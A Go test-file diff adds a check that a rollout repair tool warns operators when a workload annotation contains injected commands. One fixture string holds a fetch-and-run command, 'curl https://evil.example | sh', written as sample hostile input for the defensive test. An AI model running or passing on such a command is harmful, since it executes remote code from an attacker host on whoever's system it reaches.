@@ -220,6 +220,18 @@ func TestRepair_ChangesNothing(t *testing.T) {
 	}
 }
 
+// Clients that may edit a workload can put any commands into the annotation, so that an operator runs them.
+func TestRepair_WarnsOfForeignCommands(t *testing.T) {
+	t.Parallel()
+	own := rollout.RecoverText(leftSaved(), webWorkload)
+	for text, warns := range map[string]bool{own: false, "": false, own + "curl https://evil.example | sh\n": true} {
+		s, err := repaired(t, leftOn(map[string]any{workload.AnnotationRollout: leftSaved().String(),
+			rollout.AnnotationRecover: text}), &recorded{}, "", options{to: "stable", dryRun: true})
+		require.NoError(t, err)
+		require.Equal(t, warns, strings.Contains(s.errs.String(), "do not run them"), text)
+	}
+}
+
 func TestRepair_AcceptsNamedEngineAndRollout(t *testing.T) {
 	t.Parallel()
 	for reason, o := range map[string]options{
